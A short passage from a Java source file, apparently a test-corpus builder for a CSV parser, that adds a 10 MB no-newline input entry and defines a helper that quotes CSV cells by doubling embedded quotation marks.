        corpus.put("no-newline-10mb", "x".repeat(10_000_000).getBytes(StandardCharsets.UTF_8));
        return corpus;
    }

    private static String quote(String cell) {
        return "\"" + cell.replace("\"", "\"\"") + "\"";
    }
}
